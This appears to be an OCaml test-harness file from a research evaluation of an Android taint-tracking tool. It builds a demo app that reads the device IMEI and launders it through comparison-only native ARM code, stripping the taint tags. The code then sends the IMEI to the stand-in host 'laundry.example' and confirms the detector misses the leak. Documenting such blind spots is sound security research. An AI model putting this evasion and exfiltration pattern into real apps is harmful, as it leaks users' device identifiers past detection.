module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Layout = Ndroid_emulator.Layout
module A = Ndroid_android

let cls = "Lcom/ndroid/demos/Evade;"
let telephony = "Landroid/telephony/TelephonyManager;"

(* void launder(String imei):
     chars = GetStringUTFChars(imei)         // bytes tainted 0x400
     for each input byte b (tainted):
       for candidate c in 0x20..0x7E:        // c is a loop counter: clean
         if b == c then out[i] = c           // stores the CLEAN register
     send(out)                               // no tag reaches the sink *)
let lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    ([ Asm.Label "launder";
       Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.lr ]);
       Asm.I (Insn.mov 1 (Insn.Reg 2));
       Asm.I (Insn.mov 2 (Insn.Imm 0));
       Asm.Call "GetStringUTFChars";
       Asm.I (Insn.mov 4 (Insn.Reg 0)) (* src (tainted bytes) *);
       Asm.La (5, "out") (* dst (stays clean) *);
       (* outer loop over source bytes *)
       Asm.Label "next_byte";
       Asm.I (Insn.ldrb 6 4 0) (* b := *src — tainted *);
       Asm.I (Insn.cmp 6 (Insn.Imm 0));
       Asm.Br (Insn.EQ, "done");
       (* inner loop: find b by comparison, store the counter *)
       Asm.I (Insn.mov 7 (Insn.Imm 0x20)) (* candidate — clean *);
       Asm.Label "candidates";
       Asm.I (Insn.cmp 6 (Insn.Reg 7));
       Asm.Br (Insn.EQ, "matched");
       Asm.I (Insn.add 7 7 (Insn.Imm 1));
       Asm.I (Insn.cmp 7 (Insn.Imm 0x7F));
       Asm.Br (Insn.NE, "candidates");
       Asm.I (Insn.mov 7 (Insn.Imm 0x3F)) (* '?' fallback — clean *);
       Asm.Label "matched";
       Asm.I (Insn.strb 7 5 0) (* store the clean candidate *);
       Asm.I (Insn.add 4 4 (Insn.Imm 1));
       Asm.I (Insn.add 5 5 (Insn.Imm 1));
       Asm.Br (Insn.AL, "next_byte");
       Asm.Label "done";
       Asm.I (Insn.mov 6 (Insn.Imm 0));
       Asm.I (Insn.strb 6 5 0) (* NUL-terminate *);
       (* ship it *)
       Asm.Call "socket";
       Asm.I (Insn.mov 4 (Insn.Reg 0));
       Asm.La (1, "dest");
       Asm.Call "connect";
       Asm.La (0, "out");
       Asm.Call "strlen";
       Asm.I (Insn.mov 2 (Insn.Reg 0));
       Asm.I (Insn.mov 0 (Insn.Reg 4));
       Asm.La (1, "out");
       Asm.Call "send";
       Asm.I (Insn.mov 0 (Insn.Imm 0));
       Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.pc ]);
       Asm.Align4;
       Asm.Label "dest";
       Asm.Asciz "laundry.example";
       Asm.Align4;
       Asm.Label "out" ]
    @ List.init 16 (fun _ -> Asm.Word 0))

let app : Harness.app =
  { Harness.app_name = "control-flow-evasion";
    app_case = "Sec. VII limitation";
    description =
      "IMEI rebuilt through comparisons only (implicit flow) before a native \
       send — undetectable without control-flow taint";
    classes =
      [ J.class_ ~name:cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls ~name:"launder" ~shorty:"IL" "launder";
            J.method_ ~cls ~name:"main" ~shorty:"V"
              [ J.I (B.Invoke (B.Static, { B.m_class = telephony;
                                           m_name = "getDeviceId" }, []));
                J.I (B.Move_result 0);
                J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "launder" },
                               [ 0 ]));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("evade", lib extern) ]);
    entry = (cls, "main");
    expected_sink = "send" }

let run_and_confirm_miss () =
  let o = Harness.run Harness.Ndroid_full app in
  let payload =
    match o.Harness.transmissions with
    | t :: _ -> Some t.A.Network.payload
    | [] -> None
  in
  ((not o.Harness.detected), payload)
